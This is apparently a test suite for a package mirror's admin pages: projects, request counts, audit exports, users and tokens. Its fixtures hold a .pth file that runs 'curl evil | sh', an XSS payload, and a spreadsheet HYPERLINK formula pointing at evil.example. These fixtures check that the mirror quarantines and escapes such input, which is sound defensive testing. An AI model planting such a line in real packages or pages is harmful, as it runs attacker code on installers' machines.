"""The admin's pages: projects (the config file with the database over it), client
requests, the audit log with its exports, users and tokens. In-process with the Flask
test client over a real database, files synced the real way from a fake upstream on
loopback; and one live test: gunicorn, ``qmirror sync`` and real pip."""

from __future__ import annotations

import csv
import http.cookiejar
import io
import json
import re
import sqlite3
import subprocess
import sys
import time
import urllib.error
import urllib.parse
import urllib.request
from datetime import UTC, datetime, timedelta

import pytest

from mirror.db import MAX_PROJECT_REQUESTS, Database, Role, State
from mirror.projects import Projects, RequestCounter
from mirror.sync import Syncer
from mirror.upstream import UpstreamClient
from tests.support.admin import PASSWORD, AdminSite, csrf, csrf_from, login
from tests.support.builders import make_wheel
from tests.support.live import REPO, gunicorn_mirror, make_venv, pip_install, qmirror, write_config

OLD = datetime(2025, 1, 1, tzinfo=UTC)
PTH = {"hooky/__init__.py": b"", "hooky.pth": b"import os; os.system('curl evil | sh')\n"}
HOSTILE = '<script>alert("x")</script><img src=x onerror=alert(1)>'


@pytest.fixture
def upstream(tmp_path, fake_index):
    index = fake_index("json")
    build = tmp_path / "build"
    build.mkdir()
    index.add(make_wheel(build, "clean", "1.0"), upload_time=OLD)
    index.add(make_wheel(build, "hooky", "1.0", files=PTH), upload_time=OLD)
    index.add(make_wheel(build, "newbie", "1.0"), upload_time=OLD)
    index.add(make_wheel(build, "newbie", "2.0"), upload_time=OLD)
    return index


def make_site(tmp_path, upstream, **sync):
    site = AdminSite(
        tmp_path,
        upstream={"url": upstream.url},
        sync={"projects": ["clean", "hooky"], "python_versions": ["3.11"],
              "platforms": ["linux-x86_64"], **sync},
        policy={"cooldown": "3d", "internal": ["acme-*"]},
    )  # fmt: skip
    site.user("rev", Role.REVIEWER)
    site.user("boss", Role.ADMIN)
    return site


@pytest.fixture
def site(tmp_path, upstream):
    site = make_site(tmp_path, upstream, on_demand=True)
    run_sync(site, upstream)
    return site


def run_sync(site, upstream):
    """What `qmirror sync` does: the effective requirements and policy."""
    policy = Projects(site.settings, site.db, site.clock).policy()
    with UpstreamClient(upstream.url, timeout=5, retries=0) as client:
        return Syncer(site.settings, site.db, site.storage, client, policy, clock=site.clock).run()


def events(site):
    return [
        (row["actor"], row["action"], row["subject"], row["detail"])
        for row in site.db.db.query("SELECT * FROM events WHERE actor != 'test' ORDER BY id")
    ]


def post(client, path, page="/admin/", **data):
    return client.post(path, data={**data, "csrf_token": csrf(client, page)})


def stored(site):
    """Everything an admin form can change, to show a refused one changed nothing."""
    db = site.db
    return (
        db.allowlist(), db.project_policies(), db.project_requests(), events(site),
        [(u.name, u.disabled, u.password_hash) for u in db.users()],
        [(t.id, t.revoked_at) for t in db.tokens()],
    )  # fmt: skip


def count_misses(site, *names):
    """Ask the index for each name as pip would, then write the counts."""
    index = site.client()
    statuses = [index.get(f"/simple/{name}/").status_code for name in names]
    counter = site.app.extensions["qmirror_requests"]
    if counter is not None:
        counter.flush()
    return statuses


# ---------------------------------------------------------------- roles and CSRF

ADMIN_FORMS = [
    ("/admin/projects", {"requirement": "newbie"}),
    ("/admin/projects/clean/policy", {"allow": "pth-import", "cooldown": "0"}),
    ("/admin/projects/clean/policy/clear", {}),
    ("/admin/projects/clean/remove", {}),
    ("/admin/projects/clean/requirement", {"requirement": "clean>=1"}),
    ("/admin/requests/wanted/add", {}),
    ("/admin/requests/wanted/dismiss", {}),
    ("/admin/users", {"name": "eve", "role": "admin", "password": PASSWORD,
                      "password_again": PASSWORD}),
    ("/admin/users/boss/disable", {}),
    ("/admin/users/rev/password", {"password": "x" * 20, "password_again": "x" * 20}),
    ("/admin/tokens", {"name": "sneaky", "role": "admin"}),
    ("/admin/tokens/1/revoke", {}),
]  # fmt: skip


def test_anonymous_users_see_nothing_under_admin(site):
    anonymous = site.client()
    for path in ("/admin/projects", "/admin/projects/clean", "/admin/requests", "/admin/audit",
                 "/admin/audit?format=csv", "/admin/users"):  # fmt: skip
        response = anonymous.get(path)
        assert response.status_code == 302, path
        assert response.headers["Location"].startswith("/admin/login?next=")
    site.accounts.create_token("ci", "read", actor="test")
    count_misses(site, "wanted")
    before = stored(site)
    for path, data in ADMIN_FORMS:
        assert anonymous.post(path, data=data).status_code in (401, 403), path
    assert stored(site) == before


def test_reviewers_read_projects_but_every_admin_form_refuses_them(site):
    site.accounts.create_token("ci", "read", actor="test")
    count_misses(site, "wanted")
    rev = site.logged_in("rev")
    page = rev.get("/admin/projects")
    assert page.status_code == 200 and "clean" in page.text
    assert 'name="requirement"' not in page.text  # read-only: no add form
    requests = rev.get("/admin/requests").text
    assert "wanted" in requests and "Dismiss" not in requests
    assert rev.get("/admin/audit").status_code == 200
    assert rev.get("/admin/users").status_code == 403
    assert 'href="/admin/users"' not in rev.get("/admin/").text
    before = stored(site)
    for path, data in ADMIN_FORMS:
        assert post(rev, path, **data).status_code == 403, path
    assert stored(site) == before


def test_admin_forms_refuse_a_missing_or_forged_csrf_token(site):
    boss = site.logged_in("boss")
    before = stored(site)
    for path, data in ADMIN_FORMS:
        assert boss.post(path, data=data).status_code == 403, path
        forged = boss.post(path, data={**data, "csrf_token": "forged"})
        assert forged.status_code == 403 and "CSRF" in forged.text, path
    assert stored(site) == before


# ---------------------------------------------------------------- projects


def test_the_projects_page_lists_config_and_database_projects_with_counts(site):
    boss = site.logged_in("boss")
    assert post(boss, "/admin/projects", requirement="newbie>=2").status_code == 303
    html = boss.get("/admin/projects").text
    rows = {
        m.group(1): m.group(0)
        for m in re.finditer(r'<tr>\s*<td class="mono"><a href="/admin/projects/([a-z-]+)".*?</tr>',
                             html, re.S)
    }  # fmt: skip
    assert set(rows) == {"clean", "hooky", "newbie"}
    assert "config file" in rows["clean"] and "added here" in rows["newbie"]
    assert "newbie&gt;=2" in rows["newbie"]
    # clean: 1 approved; hooky: 1 held; each count links to the queue, filtered.
    assert 'href="/admin/?project=clean&amp;state=approved">1</a>' in rows["clean"]
    assert 'href="/admin/?project=hooky&amp;state=quarantined">1</a>' in rows["hooky"]


def test_a_project_added_in_the_form_is_mirrored_by_the_next_sync(site, upstream):
    boss = site.logged_in("boss")
    response = post(boss, "/admin/projects", requirement="Newbie>=2")
    assert response.status_code == 303
    assert response.headers["Location"] == "/admin/projects/newbie"
    assert [r["requirement"] for r in site.db.allowlist()] == ["Newbie>=2"]  # as written
    assert events(site) == [("user:boss", "allowlist.add", "newbie", "Newbie>=2")]
    run_sync(site, upstream)
    assert [f.filename for f in site.db.files(project="newbie")] == ["newbie-2.0-py3-none-any.whl"]
    page = boss.get("/admin/projects/newbie").text
    fid = site.db.file_by_filename("newbie-2.0-py3-none-any.whl").id
    assert f'href="/admin/files/{fid}"' in page and "approved" in page


def test_a_database_requirement_replaces_the_config_files_until_removed(site, upstream):
    boss = site.logged_in("boss")
    post(boss, "/admin/projects", requirement="hooky==9.9")
    projects = Projects(site.settings, site.db)
    assert [str(r) for r in projects.requirements()] == ["clean", "hooky==9.9"]
    page = boss.get("/admin/projects/hooky").text
    assert "added here, over the config file&#39;s hooky" in page
    assert (
        post(boss, "/admin/projects/hooky/requirement", requirement="hooky>=1").status_code == 303
    )
    assert post(boss, "/admin/projects/hooky/remove").status_code == 303
    assert [str(r) for r in projects.requirements()] == ["clean", "hooky"]
    assert events(site) == [
        ("user:boss", "allowlist.add", "hooky", "hooky==9.9 (over the config file's hooky)"),
        ("user:boss", "allowlist.update", "hooky", "hooky==9.9 -> hooky>=1"),
        ("user:boss", "allowlist.remove", "hooky",
         "hooky>=1; the config file's hooky applies again"),
    ]  # fmt: skip


def test_a_config_requirement_cannot_be_edited_or_removed_here(site):
    boss = site.logged_in("boss")
    before = stored(site)
    removed = post(boss, "/admin/projects/clean/remove")
    assert removed.status_code == 400 and "can only be changed in the file" in removed.text
    edited = post(boss, "/admin/projects/clean/requirement", requirement="clean>=2")
    assert edited.status_code == 400
    assert stored(site) == before


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("flask>=", "is not a requirement"),
        ("", "enter a requirement"),
        ("demo @ https://evil.example/demo.whl", "direct URL requirements are not mirrored"),
        ('demo; sys_platform == "win32"', "a marker means nothing here"),
        ("acme-billing", "internal project name"),
        ("x" * 600, "at most 500"),
        (HOSTILE, "is not a requirement"),
    ],
)
def test_an_invalid_requirement_is_shown_again_with_a_400_and_nothing_stored(site, text, message):
    boss = site.logged_in("boss")
    before = stored(site)
    response = post(boss, "/admin/projects", page="/admin/projects", requirement=text)
    assert response.status_code == 400
    assert message in response.text and "Nothing was changed." in response.text
    assert "<script>" not in response.text and "<img src=x" not in response.text
    assert stored(site) == before


def test_a_policy_override_is_applied_by_the_next_check(site, upstream, tmp_path):
    """A file held by the cooldown is approved at the next sync once its project's
    override says cooldown 0; an allowed check stops holding hooky's .pth file."""
    build = tmp_path / "build"
    upstream.add(make_wheel(build, "clean", "2.0"), upload_time=site.clock() - timedelta(hours=1))
    run_sync(site, upstream)
    fresh = site.db.file_by_filename("clean-2.0-py3-none-any.whl")
    assert fresh.state is State.QUARANTINED
    boss = site.logged_in("boss")
    set_clean = post(boss, "/admin/projects/clean/policy", allow="", cooldown="0")
    assert set_clean.status_code == 303
    set_hooky = post(boss, "/admin/projects/hooky/policy", allow="pth-import, pth-path",
                     cooldown="")  # fmt: skip
    assert set_hooky.status_code == 303
    policy = Projects(site.settings, site.db).policy()
    assert policy.cooldown_for("clean") == timedelta(0)
    assert policy.project_allow["hooky"] == frozenset({"pth-import", "pth-path"})
    page = boss.get("/admin/projects/clean").text
    assert "0s" in page and "this project&#39;s override" in page
    run_sync(site, upstream)
    assert site.db.file_by_id(fresh.id).state is State.APPROVED
    assert site.db.file_by_filename("hooky-1.0-py3-none-any.whl").state is State.APPROVED
    assert post(boss, "/admin/projects/hooky/policy/clear").status_code == 303
    assert "hooky" not in Projects(site.settings, site.db).policy().project_allow
    assert events(site) == [
        ("user:boss", "policy.set", "clean", "allow nothing; cooldown 0s"),
        ("user:boss", "policy.set", "hooky", "allow pth-import, pth-path; cooldown as configured"),
        ("user:boss", "policy.clear", "hooky", ""),
    ]


@pytest.mark.parametrize(
    ("allow", "cooldown", "message"),
    [
        ("pth-import no-such-check", "", "unknown check id &#39;no-such-check&#39;"),
        (HOSTILE, "", "unknown check id"),
        ("", "soon", "is not a duration"),
        ("", "-1d", "is not a duration"),
        ("", "400d", "at most 365 days"),
    ],
)
def test_an_invalid_check_id_or_cooldown_is_a_400_and_nothing_stored(
    site, allow, cooldown, message
):
    boss = site.logged_in("boss")
    before = stored(site)
    response = post(boss, "/admin/projects/clean/policy", allow=allow, cooldown=cooldown)
    assert response.status_code == 400 and message in response.text
    assert "<script>" not in response.text and "<img src=x" not in response.text
    assert stored(site) == before


def test_project_pages_for_unknown_or_hostile_names(site):
    rev = site.logged_in("rev")
    assert rev.get("/admin/projects/nosuch").status_code == 404
    hostile = rev.get("/admin/projects/" + urllib.parse.quote(HOSTILE, safe=""))
    assert hostile.status_code == 404 and "<script>" not in hostile.text
    moved = rev.get("/admin/projects/Hooky")
    assert moved.status_code == 301 and moved.headers["Location"] == "/admin/projects/hooky"


def test_a_projects_page_groups_its_files_by_state(site):
    rev = site.logged_in("rev")
    hooky = site.db.file_by_filename("hooky-1.0-py3-none-any.whl")
    html = rev.get("/admin/projects/hooky").text
    held, approved = html.split('<span class="state quarantined">held</span>')[1].split(
        '<span class="state approved">approved</span>'
    )
    assert f'href="/admin/files/{hooky.id}"' in held and "hooky-1.0" not in approved
    assert "Mirrored as" in html and "config file" in html and "Cooldown</dt><dd>3d" in html


# ---------------------------------------------------------------- requests


def test_requests_count_only_unknown_projects(site, upstream):
    post(site.logged_in("boss"), "/admin/projects", requirement="listed-here")
    statuses = count_misses(
        site,
        "wanted", "wanted", "wanted", "other",
        "hooky",  # carried, held: 404 but not a request
        "clean",  # approved: 200
        "listed-here",  # on the allowlist, not synced yet
        "acme-billing",  # internal
        "a" * 101,  # too long to be anyone's project
    )  # fmt: skip
    assert statuses == [404, 404, 404, 404, 404, 200, 404, 404, 404]
    site.client().get("/simple/")
    site.client().get("/simple/wanted/extra/")  # not a project page
    site.client().get("/simple/" + urllib.parse.quote(HOSTILE, safe="") + "/")
    site.app.extensions["qmirror_requests"].flush()
    assert [(r["name"], r["hits"]) for r in site.db.project_requests()] == [
        ("wanted", 3),
        ("other", 1),
    ]
    html = site.logged_in("rev").get("/admin/requests").text
    assert html.index("wanted") < html.index("other")


def test_no_requests_are_counted_when_on_demand_is_off(tmp_path, upstream):
    site = make_site(tmp_path, upstream)
    assert site.app.extensions["qmirror_requests"] is None
    assert count_misses(site, "wanted") == [404]
    assert site.db.project_requests() == []
    assert "Counting is off" in site.logged_in("rev").get("/admin/requests").text


def test_adding_a_request_is_one_click_and_leaves_the_list(site, upstream):
    count_misses(site, "newbie", "newbie", "other")
    boss = site.logged_in("boss")
    assert post(boss, "/admin/requests/newbie/add").status_code == 303
    assert post(boss, "/admin/requests/other/dismiss").status_code == 303
    assert site.db.project_requests() == []
    assert "No requests." in boss.get("/admin/requests").text
    assert events(site) == [
        ("user:boss", "allowlist.add", "newbie", "newbie; asked for 2 times"),
        ("user:boss", "request.dismiss", "other", "asked for 1 time"),
    ]
    run_sync(site, upstream)
    assert len(site.db.files(project="newbie")) == 2
    assert count_misses(site, "newbie") == [200]
    again = post(boss, "/admin/requests/other/dismiss")
    assert again.status_code == 400 and "no request for" in again.text


def test_a_busy_database_does_not_slow_the_404(site):
    """A writer holding the lock: the 404 answers at once and the hit is written later."""
    blocker = sqlite3.connect(site.db.path, isolation_level=None)
    blocker.execute("BEGIN IMMEDIATE")
    try:
        started = time.perf_counter()
        assert site.client().get("/simple/wanted/").status_code == 404
        assert time.perf_counter() - started < 0.5
    finally:
        blocker.execute("ROLLBACK")
        blocker.close()
    assert site.app.extensions["qmirror_requests"].flush() == 1
    assert [r["name"] for r in site.db.project_requests()] == ["wanted"]


def test_the_counter_writes_by_itself_after_a_moment(tmp_path):
    db = Database(tmp_path / "db.sqlite3")
    db.migrate()
    counter = RequestCounter(db, flush_after=0.05)
    counter.hit("wanted")
    counter.hit("wanted")
    counter.hit("../etc")  # not a normalized name
    deadline = time.monotonic() + 5
    while not db.project_requests() and time.monotonic() < deadline:
        time.sleep(0.02)
    assert [(r["name"], r["hits"]) for r in db.project_requests()] == [("wanted", 2)]


def test_the_requests_table_is_bounded_and_keeps_the_popular_names(tmp_path):
    db = Database(tmp_path / "db.sqlite3")
    db.migrate()
    now = datetime(2026, 6, 1, tzinfo=UTC)
    db.count_project_requests({"popular": 5}, now)
    db.count_project_requests({f"junk-{i}": 1 for i in range(MAX_PROJECT_REQUESTS + 500)}, now)
    (size,) = db.db.execute("SELECT COUNT(*) FROM project_requests").fetchone()
    assert size == MAX_PROJECT_REQUESTS
    assert db.project_request("popular")["hits"] == 5


# ---------------------------------------------------------------- audit log


@pytest.fixture
def history(site):
    """Decisions and events from several people, with hostile reasons."""
    hooky = site.db.file_by_filename("hooky-1.0-py3-none-any.whl")
    rev = site.logged_in("rev")
    rev.post(f"/admin/files/{hooky.id}/decide",
             data={"action": "reject", "reason": HOSTILE, "seen_state": "quarantined",
                   "csrf_token": csrf(rev)})  # fmt: skip
    site.clock.advance(days=2)
    boss = site.logged_in("boss")
    post(boss, "/admin/projects", requirement="newbie")
    post(boss, "/admin/tokens", name='=HYPERLINK("http://evil.example")', role="read")
    post(boss, "/admin/projects/clean/policy", allow="", cooldown="1d")
    site.accounts.set_disabled("rev", True, actor="@evil")
    site.accounts.set_disabled("rev", False, actor="-cmd")
    return site


def test_the_audit_log_merges_decisions_and_events_newest_first(history):
    boss = history.logged_in("boss")
    html = boss.get("/admin/audit").text
    body = html.split("<tbody>")[1]
    order = [body.index(text) for text in ("user.enable", "policy.set", "allowlist.add",
                                           "file → rejected", "file → approved")]  # fmt: skip
    assert order == sorted(order)
    assert "<script>" not in html and "<img src=x" not in html
    assert "&lt;script&gt;alert(&#34;x&#34;)&lt;/script&gt;" in html
    assert "quarantined → rejected" in body


def test_the_audit_log_filters(history):
    boss = history.logged_in("boss")

    def subjects(query):
        html = boss.get("/admin/audit?" + urllib.parse.urlencode(query)).text
        return re.findall(r'<td class="mono">(?:<a [^>]*>)?([^<]+)(?:</a>)?</td>\s*<td>',
                          html.split("<tbody>")[1])  # fmt: skip

    assert set(subjects({"actor": "rev"})) == {"hooky-1.0-py3-none-any.whl"}
    assert subjects({"action": "rejected"}) == ["hooky-1.0-py3-none-any.whl"]
    assert subjects({"action": "allowlist.add"}) == ["newbie"]
    by_project = subjects({"subject": "hooky"})
    assert by_project and set(by_project) == {"hooky-1.0-py3-none-any.whl"}
    assert "newbie" not in subjects({"until": "2026-06-01"})
    assert set(subjects({"since": "2026-06-03"})) == {"newbie", "token 1", "clean", "rev"}
    assert boss.get("/admin/audit?since=yesterday").status_code == 400
    assert boss.get("/admin/audit?format=xml").status_code == 400


def test_the_audit_log_is_paginated_with_a_bounded_page_size(history):
    boss = history.logged_in("boss")
    first = boss.get("/admin/audit?per_page=2").text
    assert first.split("<tbody>")[1].count("<tr>") == 2
    assert 'href="/admin/audit?page=1&amp;per_page=2"' in first
    second = boss.get("/admin/audit?per_page=2&page=1").text
    assert "← newer" in second
    huge = boss.get("/admin/audit?per_page=100000").text
    assert huge.split("<tbody>")[1].count("<tr>") == len(history.db.audit_log(limit=1000))
    assert boss.get("/admin/audit?page=999999").status_code == 400


def test_the_audit_export_as_csv_is_streamed_filtered_and_formula_safe(history):
    rev = history.logged_in("rev")
    response = rev.get("/admin/audit?format=csv")
    assert response.is_streamed
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"].startswith("attachment; filename=")
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert len(rows) == len(history.db.audit_log(limit=1000))
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@")), row
    token = next(r for r in rows if r["action"] == "token.create")
    assert token["reason"] == '\'=HYPERLINK("http://evil.example") (read)'
    assert {r["actor"] for r in rows} >= {"'@evil", "'-cmd", "user:rev", "policy", "sync"}
    rejected = next(r for r in rows if r["action"] == "rejected")
    assert (rejected["from_state"], rejected["reason"]) == ("quarantined", HOSTILE)
    only = list(csv.DictReader(io.StringIO(rev.get("/admin/audit?format=csv&actor=rev").text)))
    assert [r["action"] for r in only] == ["rejected"]


def test_the_audit_export_as_json(history):
    response = history.logged_in("rev").get("/admin/audit?format=json&subject=hooky")
    assert response.is_streamed and response.mimetype == "application/json"
    rows = json.loads(response.text)
    assert [(r["kind"], r["action"], r["to_state"]) for r in rows] == [
        ("decision", "rejected", "rejected"),
        ("decision", "quarantined", "quarantined"),
    ]
    assert rows[0]["reason"] == HOSTILE and rows[0]["file_id"] is not None
    everything = json.loads(history.logged_in("rev").get("/admin/audit?format=json").text)
    assert len(everything) == len(history.db.audit_log(limit=1000))


def test_reading_in_batches_keeps_the_order_across_equal_times(site):
    """Many decisions and events in the same second: batches of any size, read after
    the last row seen, list exactly what one query lists."""
    for i in range(30):
        site.db.log_event("user:bot", "policy.set", f"p{i}", "", now=site.clock())
        if i % 4 == 0:
            site.clock.advance(seconds=1)
    everything = site.db.audit_log(limit=10_000)
    assert len(everything) > 30
    for batch in (1, 2, 7, 1000):
        assert list(site.db.iter_audit_log(batch=batch)) == everything, batch


def test_a_large_export_is_read_in_batches(site):
    for i in range(2500):
        site.db.log_event("user:bot", "policy.set", f"p{i}", "", now=site.clock())
    rows = json.loads(site.logged_in("rev").get("/admin/audit?format=json&actor=bot").text)
    assert len(rows) == 2500 and len({r["subject"] for r in rows}) == 2500


# ---------------------------------------------------------------- users and tokens


def test_an_admin_adds_disables_enables_and_resets_users(site):
    boss = site.logged_in("boss")
    added = post(boss, "/admin/users", name="ada", role="reviewer", password=PASSWORD,
                 password_again=PASSWORD)  # fmt: skip
    assert added.status_code == 303
    ada = site.logged_in("ada")
    assert post(boss, "/admin/users/ada/disable").status_code == 303
    assert ada.get("/admin/").status_code == 302  # her session ended
    assert login(site.client(), "ada").status_code == 401
    assert post(boss, "/admin/users/ada/enable").status_code == 303
    new = "another long password"
    assert post(boss, "/admin/users/ada/password", password=new,
                password_again=new).status_code == 303  # fmt: skip
    assert login(site.client(), "ada").status_code == 401
    assert login(site.client(), "ada", new).status_code == 303
    assert site.db.user_by_name("ada").last_login_at == site.clock()
    assert "ada" in boss.get("/admin/users").text
    assert events(site) == [
        ("user:boss", "user.add", "ada", "role reviewer"),
        ("user:boss", "user.disable", "ada", "sessions ended"),
        ("user:boss", "user.enable", "ada", "sessions ended"),
        ("user:boss", "user.passwd", "ada", "sessions ended"),
    ]
    assert site.db.user_by_name("ada").password_hash.startswith("scrypt:")


@pytest.mark.parametrize(
    ("data", "message"),
    [
        ({"name": "ada", "role": "reviewer", "password": PASSWORD, "password_again": "other"},
         "the two passwords differ"),
        ({"name": "ada", "role": "reviewer", "password": "short", "password_again": "short"},
         "at least 12"),
        ({"name": "rev", "role": "reviewer", "password": PASSWORD, "password_again": PASSWORD},
         "already exists"),
        ({"name": HOSTILE, "role": "admin", "password": PASSWORD, "password_again": PASSWORD},
         "a user name is"),
        ({"name": "ada", "role": "root", "password": PASSWORD, "password_again": PASSWORD},
         "role must be"),
    ],
)  # fmt: skip
def test_a_refused_user_form_is_a_400_and_nothing_stored(site, data, message):
    boss = site.logged_in("boss")
    before = stored(site)
    response = post(boss, "/admin/users", **data)
    assert response.status_code == 400 and message in response.text
    assert "<script>" not in response.text
    assert stored(site) == before


def test_an_admin_cannot_disable_themself(site):
    boss = site.logged_in("boss")
    before = stored(site)
    response = post(boss, "/admin/users/boss/disable")
    assert response.status_code == 400 and "your own account" in response.text
    assert stored(site) == before
    assert boss.get("/admin/users").status_code == 200


def test_a_token_secret_is_shown_once(site):
    boss = site.logged_in("boss")
    response = post(boss, "/admin/tokens", name=HOSTILE, role="reviewer")
    assert response.status_code == 200
    assert response.headers["Cache-Control"] == "no-store"
    secret = re.search(r'<pre class="value" id="token-secret">(qm_[\w-]+)</pre>', response.text)
    assert secret, response.text
    assert "<script>" not in response.text and "&lt;script&gt;" in response.text
    token = site.accounts.token(secret.group(1))
    assert token is not None and token.name == HOSTILE
    later = boss.get("/admin/users").text
    assert secret.group(1) not in later and "&lt;script&gt;" in later
    assert secret.group(1) not in json.dumps(site.db.audit_log())
    assert post(boss, f"/admin/tokens/{token.id}/revoke").status_code == 303
    assert site.accounts.token(secret.group(1)) is None
    assert [e[1] for e in events(site)] == ["token.create", "token.revoke"]
    again = post(boss, f"/admin/tokens/{token.id}/revoke")
    assert again.status_code == 400 and "no live token" in again.text


# ---------------------------------------------------------------- live: web form -> sync -> pip


class Browser:
    """Cookies and forms over real HTTP, as a browser without JavaScript would."""

    def __init__(self, base: str) -> None:
        self.base = base
        self.opener = urllib.request.build_opener(
            urllib.request.HTTPCookieProcessor(http.cookiejar.CookieJar())
        )

    def get(self, path: str) -> str:
        with self.opener.open(self.base + path, timeout=10) as response:
            return response.read().decode()

    def submit(self, path: str, page: str, **fields: str) -> str:
        data = urllib.parse.urlencode({**fields, "csrf_token": csrf_from(self.get(page))})
        with self.opener.open(self.base + path, data=data.encode(), timeout=30) as response:
            return response.read().decode()


@pytest.mark.live
def test_live_add_in_the_web_form_sync_approve_then_pip(tmp_path, fake_index):
    index = fake_index("json")
    build = tmp_path / "build"
    build.mkdir()
    recent = datetime.now(UTC) - timedelta(hours=1)  # held by the 3-day cooldown
    index.add(make_wheel(build, "gizmo", "1.0"), upload_time=recent)
    index.add(make_wheel(build, "widget", "2.0"), upload_time=recent)
    config = write_config(
        tmp_path / "qmirror.toml", tmp_path / "data", index.url,
        sync={"projects": [], "on_demand": True}, policy={"cooldown": "3d"},
    )  # fmt: skip
    added = subprocess.run(
        [sys.executable, "-m", "mirror", "--config", str(config), "user", "add", "boss",
         "--role", "admin"],
        input=PASSWORD + "\n", capture_output=True, text=True, cwd=REPO, timeout=60,
    )  # fmt: skip
    assert added.returncode == 0, added.stderr

    with gunicorn_mirror(config, tmp_path) as server:
        python = make_venv(tmp_path / "venv")
        refused = pip_install(python, server.index_url, ["gizmo"])
        assert refused.returncode != 0  # not carried: a 404, counted as a request
        browser = Browser(server.url)
        browser.submit("/admin/login", "/admin/login", username="boss", password=PASSWORD)
        deadline = time.monotonic() + 20
        while "gizmo" not in browser.get("/admin/requests").split("<tbody>")[1]:
            assert time.monotonic() < deadline, "the request was never counted"
            time.sleep(0.5)
        browser.submit("/admin/requests/gizmo/add", "/admin/requests")
        browser.submit("/admin/projects", "/admin/projects", requirement="widget>=2")

        synced = qmirror(config, "sync")
        assert "2 new files" in synced.stdout and "2 held" in synced.stdout, synced.stdout

        db = Database(tmp_path / "data" / "qmirror.sqlite3")
        for filename in ("gizmo-1.0-py3-none-any.whl", "widget-2.0-py3-none-any.whl"):
            row = db.file_by_filename(filename)
            browser.submit(
                f"/admin/files/{row.id}/decide", "/admin/", action="approve",
                seen_state="quarantined", reason="new project, looked at it",
            )  # fmt: skip
            assert db.file_by_filename(filename).state is State.APPROVED
        install = pip_install(python, server.index_url, ["gizmo", "widget"])
        assert install.returncode == 0, install.stdout + install.stderr
        audit = browser.get("/admin/audit?format=json&actor=boss")
        actions = [row["action"] for row in json.loads(audit)]
        assert actions == ["approved", "approved", "allowlist.add", "allowlist.add"]
        db.close()
